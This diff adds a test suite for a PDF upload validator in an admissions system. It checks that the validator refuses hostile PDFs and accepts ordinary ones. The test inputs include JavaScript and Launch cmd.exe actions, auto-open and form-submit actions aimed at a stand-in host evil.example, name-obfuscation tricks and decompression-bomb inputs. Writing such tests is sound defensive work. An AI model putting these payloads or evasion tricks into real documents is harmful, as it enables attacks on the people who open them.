@@ -1,0 +1,140 @@
+import { deflateRawSync, deflateSync } from 'node:zlib'
+import { FILE_MESSAGES } from '@pravesh/shared/admissions/document-file'
+import { describe, expect, it } from 'vitest'
+import { anObjectStream, aPdf } from '../../../../test/builders/documents.ts'
+import { pdfRefusal } from './pdf-refusal.ts'
+
+const inStream = (...texts: string[]) =>
+  anObjectStream({ objects: Object.fromEntries(texts.map((text, index) => [20 + index, text])) })
+const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
+const uri = '<< /S /URI /URI (https://evil.example/) >>'
+const badChecksum = (content: Buffer) => Buffer.concat([deflateSync(content).subarray(0, -4), Buffer.alloc(4)])
+const cutOff = (content: Buffer) => deflateSync(content).subarray(0, -6)
+
+describe('a hostile PDF is refused', () => {
+  it.each([
+    ['a script in a compressed object stream', inStream(script)],
+    ['a script in disguise there', inStream('<< /S /J#61vaScript /JS (x) >>')],
+    ['a script in a stream of another type', anObjectStream({ objects: { 20: script }, type: '' })],
+    [
+      'a script in a stream whose type is in disguise',
+      anObjectStream({ objects: { 20: script }, type: '/Type /Obj#53tm' }),
+    ],
+    ['a script in a stream with a wrong checksum', anObjectStream({ objects: { 20: script }, pack: badChecksum })],
+    ['a script behind comments', '9%c\n0 %c\nobj << /S %JavaScript\n /JavaScript >> endobj'],
+    ['names of scripts', inStream('<< /Names << /JavaScript 5 0 R >> >>')],
+    ['a page opened at the start', `9 0 obj << /Type /Catalog /OpenAction ${uri} >> endobj`],
+    ['the same, compressed', inStream(`<< /OpenAction 21 0 R >>`, uri)],
+    ['the same in disguise', `9 0 obj << /Open#41ction ${uri} >> endobj`],
+    ['the same after a harmless one', `9 0 obj << /OpenAction [3 0 R /Fit] /OpenAction ${uri} >> endobj`],
+    [
+      'the same, of two objects with one number',
+      `8 0 obj [3 0 R /Fit] endobj 9 0 obj << /OpenAction 8 0 R >> endobj 8 0 obj ${uri} endobj`,
+    ],
+    [
+      'the same behind the page to be shown',
+      `9 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${uri}] >> >> endobj`,
+    ],
+    [
+      'the same as the end of a chain',
+      `9 0 obj << /OpenAction 8 0 R >> endobj 8 0 obj << /S /GoTo /Next 8 0 R >> endobj`,
+    ],
+    ['a page opened with a page', `9 0 obj << /Type /Page /AA << /O ${uri} >> >> endobj`],
+    ['the same, compressed', inStream('<< /Type /Page /AA 21 0 R >>', '<< /O 22 0 R >>', uri)],
+    ['a form that is sent', '9 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj'],
+    ['the same, compressed', inStream('<< /S /SubmitForm /F (https://evil.example/) >>')],
+    ['another document', inStream('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>')],
+    ['another document in it', inStream('<< /S /GoToE >>')],
+    ['data that are read', inStream('<< /S /ImportData >>')],
+    ['a form of Adobe’s kind', '9 0 obj << /AcroForm << /XFA [(a) 5 0 R] >> >> endobj'],
+    ['the same, compressed', inStream('<< /Fields [] /XFA 5 0 R >>')],
+    ['a program', inStream('<< /S /Launch /F (cmd.exe) >>')],
+    ['a file', inStream('<< /Names << /EmbeddedFiles 5 0 R >> >>')],
+    ['media', inStream('<< /Subtype /RichMedia >>')],
+  ])('%s', (_, body) => expect(pdfRefusal(aPdf({ body }))).toBe(FILE_MESSAGES.active))
+
+  it.each([
+    ['cut off', anObjectStream({ objects: { 20: script }, pack: cutOff })],
+    [
+      'packed twice',
+      anObjectStream({
+        objects: { 20: script },
+        dictionary: '/Filter [/FlateDecode /FlateDecode]',
+        pack: (content) => deflateSync(deflateSync(content)),
+      }),
+    ],
+    [
+      'packed as text',
+      anObjectStream({
+        objects: { 20: script },
+        dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]',
+        pack: (content) => Buffer.from(`${deflateSync(content).toString('hex')}>`),
+      }),
+    ],
+    ['packed unusually', anObjectStream({ objects: { 20: script }, dictionary: '/Filter /LZWDecode' })],
+    [
+      'packed with a predictor',
+      anObjectStream({ objects: { 20: script }, dictionary: '/DecodeParms << /Predictor 12 >>' }),
+    ],
+    ['not packed as it says', anObjectStream({ objects: { 20: script }, pack: () => Buffer.from('no zlib here') })],
+    ['packed to burst', anObjectStream({ objects: { 20: '0 '.repeat(10_000_000) } })],
+    ['nested without end', `9 0 obj ${'['.repeat(100_000)} endobj`],
+    ['made to be read again and again', '9 0 obj << '.repeat(300_000)],
+  ])('what cannot be looked into: %s', (_, body) => expect(pdfRefusal(aPdf({ body }))).toBe(FILE_MESSAGES.unreadable))
+
+  it('a protected one, wherever it says so', () => {
+    expect(pdfRefusal(aPdf({ trailer: '/Enc#72ypt 5 0 R' }))).toBe(FILE_MESSAGES.locked)
+  })
+})
+
+describe('a harmless PDF is taken', () => {
+  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [21 0 R] >>'
+  it.each([
+    [
+      'a scan',
+      '9 0 obj << /Type /XObject /Subtype /Image /Filter /DCTDecode /Length 4 >> stream\n\xff\xd8\xff\xd9\nendstream endobj',
+    ],
+    [
+      'one with links, as Word and Chrome write them',
+      inStream(page, `<< /Type /Annot /Subtype /Link /A << /Type /Action ${uri.slice(2)} >>`),
+    ],
+    [
+      'one that shows its first page, as LibreOffice writes it',
+      '9 0 obj << /Type /Catalog /OpenAction[3 0 R /XYZ null null 0] /Lang(en-IN) >> endobj',
+    ],
+    [
+      'one that shows a page, as Acrobat writes it',
+      inStream('<< /OpenAction 21 0 R >>', '<< /S /GoTo /D [3 0 R /FitH 800] >>'),
+    ],
+    ['one that shows a named place', '9 0 obj << /OpenAction (start) >> endobj'],
+    ['one that asks to be printed', '9 0 obj << /OpenAction << /S /Named /N /Print >> >> endobj'],
+    ['one with nothing to do', '9 0 obj << /OpenAction null /AA << >> >> endobj'],
+    [
+      'a signed one, as government offices issue them',
+      inStream(
+        '<< /AcroForm << /Fields [21 0 R] /SigFlags 3 >> >>',
+        '<< /FT /Sig /Type /Annot /Subtype /Widget /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] >> >>',
+      ),
+    ],
+    [
+      'a form that was filled in',
+      inStream('<< /AcroForm << /Fields [21 0 R] /NeedAppearances true >> >>', '<< /FT /Tx /T (name) /V (ASHA) >>'),
+    ],
+    ['one that mentions scripts', '9 0 obj << /Title (How /OpenAction and \\) /XFA work) >> endobj'],
+    [
+      'a font with an odd name',
+      '9 0 obj << /Font << /AA 5 0 R /JavaScripts 5 0 R >> >> endobj 5 0 obj << /Type /Font /Subtype /Type1 >> endobj',
+    ],
+    [
+      'a colour profile',
+      `9 0 obj << /N 3 /Filter /FlateDecode /Length 10 >> stream\n${deflateRawSync('x').toString('latin1')}\nendstream endobj`,
+    ],
+    ['an unused object stream', anObjectStream({ objects: {} })],
+    [
+      'one with a predictor of none',
+      anObjectStream({ objects: { 20: '<< >>' }, dictionary: '/DecodeParms [<< /Predictor 1 >>]' }),
+    ],
+  ])('%s', (_, body) => expect(pdfRefusal(aPdf({ body }))).toBeNull())
+
+  it('a large one', () => expect(pdfRefusal(aPdf({ bytes: 5_000_000 }))).toBeNull())
+})
